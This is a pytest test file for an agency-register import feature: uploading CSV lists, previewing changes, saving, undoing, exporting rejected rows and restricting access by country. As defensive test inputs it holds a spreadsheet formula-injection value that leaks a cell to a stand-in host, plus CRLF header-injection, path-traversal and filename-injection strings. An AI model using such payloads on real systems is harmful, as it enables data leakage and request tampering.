"""A list brought by page: read, looked at, saved, undone; nothing changes before the officer said so."""

from __future__ import annotations

import csv
import io

import pytest

from iris import models as m
from iris.jobs.handlers import Workshop
from iris.rules.roles import Kind, Role
from tests.client import PageClient
from tests.web.bringing import FIVE, Bringing, main_form, rows, section, state_of, sums
from tests.web.people import People


@pytest.fixture
def desk(people: People, shop: Workshop) -> Bringing:
    """An officer of Bangladesh who brings lists."""
    return Bringing(people.enter(Role.GOVERNMENT_OFFICER), shop)


def test_a_list_is_read_looked_at_saved_and_undone(desk: Bringing, client: PageClient) -> None:
    page = desk.send(rows(FIVE))
    assert "Being read" in page.text
    assert desk.officer.client.response is not None
    assert desk.officer.client.response.headers["Refresh"] == "2"
    page = desk.look()
    assert page.h1 == "Look before it is saved: list of 1 September 2026"
    assert "Nothing has been changed yet." in page.text
    assert sums(page) == [
        {"rows read": 5, "same as before": 0, "new": 5, "changed": 0, "double": 0, "rejected": 0, "without a record": 0}
    ]
    assert client.get("/agencies").h1 == "No agency found"
    page = desk.officer.client.submit(main_form(page))
    assert "Being saved" in page.text
    page = desk.look()
    assert state_of(page) == "Saved"
    found = client.get("/agencies?q=Heron+Overseas")
    assert len(found.root.all("li", class_="hit")) == 1
    entry = client.get(found.link("Heron Overseas"))
    assert "Licensed" in entry.title
    assert "List of the authority" in entry.text
    assert "Bureau of Work" in client.get("/lists").text
    page = desk.officer.client.get(f"/imports/{desk.number}")
    undo = page.form(action=f"/imports/{desk.number}/undo")
    page = desk.officer.client.submit(undo)
    assert state_of(page) == "Undone"
    assert client.get("/agencies").h1 == "No agency found"
    client.get(found.link("Heron Overseas"), status=404)
    assert "No list yet" in client.get("/lists").text


def test_the_second_list_shows_what_changed(desk: Bringing, client: PageClient) -> None:
    desk.save(desk.bring(rows(FIVE)))
    second = [("0010", "Orchard International"), ("0020", "Heron Overseas Limited"), ("0030", "Lotus Manpower"),
              ("0040", "Delta Services"), ("0060", "Sun Agency"), ("0060", "Sun Agency"), ("0070", "")]  # fmt: skip
    text = rows(second).replace("0030,Lotus Manpower,Active", "0030,Lotus Manpower,Cancelled") + ",,\n"
    page = desk.bring(text, on="2026-10-01")
    file, list_ = sums(page)
    assert file == {"rows read": 8, "same as before": 2, "new": 1, "changed": 2, "double": 1, "rejected": 1,
                    "without a record": 1}  # fmt: skip
    assert list_ == {"on the list before": 5, "same": 2, "changed": 2, "gone from the list": 1}
    changed = section(page, "changed").text
    assert "Name or contact" in changed
    assert "Heron Overseas Limited" in changed
    assert "Lotus Manpower" in changed
    assert "Kite Travels" in section(page, "gone").text
    assert "1 September 2026" in section(page, "gone").text
    assert "Sun Agency" in section(page, "new").text
    assert "0070" in section(page, "rejected").text
    desk.save(page)
    assert "No longer on the list" in client.get("/agencies?q=Kite+Travels").text
    assert "Struck off" in client.get("/agencies?q=Lotus+Manpower").text
    assert "Sun Agency" in client.get("/agencies?q=0060").text


def test_the_same_file_again_changes_nothing(desk: Bringing) -> None:
    for _ in range(2):
        page = desk.bring(rows(FIVE))
        desk.save(page)
    assert sums(page)[0]["same as before"] == 5
    assert sums(page)[1] == {"on the list before": 5, "same": 5, "changed": 0, "gone from the list": 0}


def test_a_list_that_shrank_needs_its_own_yes(desk: Bringing, client: PageClient) -> None:
    desk.save(desk.bring(rows(FIVE)))
    page = desk.bring(rows(FIVE[:2]), on="2026-10-01")
    assert "This list has 2 rows, the one before had 5; 3 of 5 permissions would vanish." in page.text
    stopped = desk.number
    page = desk.officer.client.submit(main_form(page), status=400)
    assert "Tick this when you have looked at what is gone." in page.text
    assert "Licensed" in client.get("/agencies?q=Kite+Travels").text
    desk.officer.client.path = f"/imports/{stopped}"
    page = desk.save(page, accept_shrink="y")
    assert state_of(page) == "Saved"
    assert "No longer on the list" in client.get("/agencies?q=Kite+Travels").text


def test_a_part_of_a_list_lets_nobody_vanish(desk: Bringing, client: PageClient) -> None:
    desk.save(desk.bring(rows(FIVE)))
    page = desk.bring(rows(FIVE[:2]), on="2026-10-01", part="y")
    assert "This is only a part of the list: who is missing is not taken as gone." in page.text
    desk.save(page)
    assert "Licensed" in client.get("/agencies?q=Kite+Travels").text


def test_dates_that_can_be_read_in_two_ways_are_asked_back(desk: Bringing, client: PageClient) -> None:
    text = "Licence No,Agency Name,Valid until\n0010,Orchard International,03/04/2027\n0020,Heron Overseas,05/06/2027\n"
    page = desk.bring(text)
    form = main_form(page)
    assert form.names() >= {"dates"}
    assert "3 April" in form.element.text
    page = desk.save(page, dates="mdy")
    assert sums(page)[0]["new"] == 2
    desk.save(page)
    found = client.get("/agencies?q=0010")
    assert "4 March 2027" in client.get(found.link("Orchard International")).text


def test_a_column_of_names_that_is_not_found_is_asked_for(desk: Bringing) -> None:
    page = desk.bring("code,thing,x\n1,Orchard International,a\n2,Heron Overseas,b\n")
    assert "name" in main_form(page).names()
    page = desk.officer.client.submit(main_form(page), name="thing")
    page = desk.look()
    assert sums(page)[0]["new"] == 2


def test_a_list_can_be_thrown_away(desk: Bringing, client: PageClient) -> None:
    page = desk.bring(rows(FIVE))
    number = desk.number
    page = desk.officer.client.submit(page.form(action=f"/imports/{number}/cancel"))
    assert "Thrown away; the register stays as it was." in page.text
    page = desk.officer.client.get(f"/imports/{number}")
    assert state_of(page) == "Thrown away"
    token = {"csrf_token": desk.officer.token}
    desk.officer.client.post(f"/imports/{number}", token, status=409)
    desk.officer.client.post(f"/imports/{number}/undo", token, status=409)
    assert client.get("/agencies").h1 == "No agency found"


def test_pressing_twice_saves_once(desk: Bringing, client: PageClient) -> None:
    page = desk.bring(rows(FIVE))
    form, path = main_form(page), desk.officer.client.path
    for status in (200, 409):
        desk.officer.client.path = path
        desk.officer.client.submit(form, status=status)
    desk.officer.client.path = path
    assert state_of(desk.look()) == "Saved"
    desk.officer.client.path = path
    desk.officer.client.submit(form, status=409)
    assert client.get("/agencies").h1 == "5 agencies on the register"


def test_rejected_rows_can_be_taken_home_mended_and_sent_again(desk: Bringing) -> None:
    bad = [
        ("0070", "x" * 600),
        ("0080", '"=HYPERLINK(""http://x.example/?""&A1)" ' + "y" * 600),
        ("@90", "@" + "z" * 600),
    ]
    page = desk.bring(rows([*FIVE, *bad]))
    assert sums(page)[0]["rejected"] == 3
    answer = desk.officer.client.raw(f"/imports/{desk.number}/rows/rejected.csv")
    assert answer.mimetype == "text/csv"
    assert answer.headers["Content-Disposition"] == f'attachment; filename="list-{desk.number}-rejected.csv"'
    lines = list(csv.reader(io.StringIO(answer.get_data(as_text=True).removeprefix("\ufeff"))))
    assert lines[0] == ["Licence No", "Agency Name", "Status", "Row", "What is wrong"]
    assert [line[0] for line in lines[1:]] == ["0070", "0080", "'@90"]
    assert [line[3] for line in lines[1:]] == ["7", "8", "9"]
    assert not [cell for line in lines for cell in line if cell[:1] in tuple("=+-@\t\r")]
    mended = (
        answer.get_data(as_text=True).replace("x" * 600, "Mended Agency").replace("y" * 600, "").replace("z" * 600, "z")
    )
    page = desk.bring(mended, part="y", name="mended.csv")
    assert sums(page)[0]["new"] == 3


def test_mended_rows_are_sent_from_the_page_of_their_list_and_undone_before_it(desk: Bringing) -> None:
    client = desk.officer.client
    desk.save(desk.bring(rows([*FIVE, ("0070", "")])))
    parent = desk.number
    page = client.get(f"/imports/{parent}")
    book = client.raw(page.link("Rejected rows as XLSX"))
    assert book.mimetype.endswith("spreadsheetml.sheet")
    form = client.get(page.link("Send mended rows")).form(field="file")
    client.submit(form, status=400)
    form = client.get(f"/imports/{parent}/mended").form(field="file")
    client.submit(form, status=409, file=(io.BytesIO(b""), "mended.csv"))
    mended = rows([("0070", "Mended Agency")]).encode()
    form = client.get(f"/imports/{parent}/mended").form(field="file")
    client.submit(form, file=(io.BytesIO(mended), "mended.csv"))
    page = desk.look()
    assert sums(page)[0]["new"] == 1
    assert page.link("look at that list") == f"/imports/{parent}"
    desk.save(page)
    small = desk.number
    page = client.get(f"/imports/{parent}")
    assert "Mended rows that came" in page.text
    page = client.submit(page.form(action=f"/imports/{parent}/undo"), status=409)
    assert f"Its mended rows were saved as list {small}; undo list {small} first." in page.text
    for number in (small, parent):
        page = client.submit(client.get(f"/imports/{number}").form(action=f"/imports/{number}/undo"))
        assert state_of(page) == "Undone"


def test_mended_rows_are_the_business_of_officers_of_the_country(desk: Bringing, people: People) -> None:
    desk.save(desk.bring(rows([*FIVE, ("0070", "")])))
    nepal = people.made.organisation(Kind.GOVERNMENT, "NP")
    places = (f"/imports/{desk.number}/mended", f"/imports/{desk.number}/rows/rejected.xlsx")
    for person in (people.enter(Role.GOVERNMENT_OFFICER, nepal), people.enter(Role.AGENCY_MANAGER)):
        for place in places:
            person.client.raw(place, status=404)
    for place in places:
        PageClient(people.app).raw(place, status=302)


@pytest.mark.parametrize("outcome", ["new", "unchanged", "changed", "gone", "duplicate", "blank", "reinstated"])
def test_every_kind_of_row_can_be_taken_home_whole(desk: Bringing, outcome: str) -> None:
    many = [(f"{number:04d}", f"Agency {number}") for number in range(30)]
    page = desk.bring(rows(many))
    assert section(page, "new").all("a")[-1].text == "All 30"
    answer = desk.officer.client.raw(f"/imports/{desk.number}/rows/{outcome}.csv")
    assert len(answer.get_data(as_text=True).splitlines()) == (31 if outcome == "new" else 1)


@pytest.mark.parametrize("outcome", ["nothing", "new%0d%0aX-Evil: 1", "..%2f..%2fx", "%22; filename=x", "é", "a" * 500])
def test_rows_of_a_kind_that_is_none_are_not_there(desk: Bringing, outcome: str) -> None:
    desk.bring(rows(FIVE))
    answer = desk.officer.client.raw(f"/imports/{desk.number}/rows/{outcome}.csv", status=404)
    assert "X-Evil" not in answer.headers


def test_changed_names_and_those_that_came_back_are_in_the_file_of_changes(desk: Bringing) -> None:
    desk.save(desk.bring(rows(FIVE)))
    desk.save(desk.bring(rows(FIVE[:4]), on="2026-10-01"), accept_shrink="y")
    renamed = [("0010", "Orchard Intl"), *FIVE[1:]]
    page = desk.bring(rows(renamed), on="2026-11-01")
    total = sums(page)[0]["changed"]
    assert total == 2
    text = desk.officer.client.raw(f"/imports/{desk.number}/rows/changed.csv").get_data(as_text=True)
    assert len(text.splitlines()) == 1 + total


def test_lists_are_listed_newest_first_in_pages(desk: Bringing, people: People) -> None:
    desk.bring(rows(FIVE))
    first = people.made.session.get(m.ImportBatch, desk.number)
    assert first is not None
    for _ in range(30):
        copy = {c.name: getattr(first, c.name) for c in m.ImportBatch.__table__.columns if c.name != "id"}
        people.made.session.add(m.ImportBatch(**copy))
    people.made.session.flush()
    page = desk.officer.client.get("/imports")
    assert len(page.root.one("tbody").all("tr")) == 25
    page = desk.officer.client.get(page.root.one("a", rel="next").attrs["href"])
    assert len(page.root.one("tbody").all("tr")) == 6


def test_the_desk_names_what_waits(desk: Bringing) -> None:
    assert "Nothing waits for you" in desk.officer.client.get("/desk").text
    desk.bring(rows(FIVE))
    number = desk.number
    page = desk.officer.client.get("/desk")
    assert page.h1 == "1 thing waits for you"
    assert page.link("Bureau of Work") == f"/imports/{number}"
    assert "Look and save" in page.text


# --- another country ------------------------------------------------------------------------------------------------


def test_an_officer_of_another_country_finds_nothing(desk: Bringing, people: People) -> None:
    page = desk.bring(rows(FIVE))
    number = desk.number
    nepal = people.made.organisation(Kind.GOVERNMENT, "NP")
    other = people.enter(Role.GOVERNMENT_OFFICER, nepal)
    token = {"csrf_token": other.token}
    for path in (f"/imports/{number}", f"/imports/{number}/rows/new.csv", f"/imports/{number}/rows/rejected.csv"):
        answer = other.client.get(path, status=404)
        assert not [
            word for word in ("Orchard", "list.csv", "Bureau of Work", "5") if word in answer.root.one("main").text
        ]
    for path in (f"/imports/{number}", f"/imports/{number}/cancel", f"/imports/{number}/undo"):
        other.client.post(path, token, status=404)
    assert "No list yet" in other.client.get("/imports").text
    assert other.client.get("/desk").h1 == "Nothing waits for you"
    assert sums(desk.officer.client.get(f"/imports/{number}")) == sums(page)


def test_an_officer_brings_lists_of_the_own_country_only(desk: Bringing, people: People) -> None:
    page = desk.send(rows(FIVE), country="NP", status=404)
    assert page.h1 == "Nothing here"
    assert people.made.session.query(m.ImportBatch).count() == 0
    assert people.made.session.query(m.Authority).count() == 0


def test_a_reviewer_brings_lists_of_every_country(people: People, shop: Workshop) -> None:
    desk = Bringing(people.enter(Role.REVIEWER), shop)
    page = desk.bring(rows(FIVE), country="np")
    assert sums(page)[0]["new"] == 5
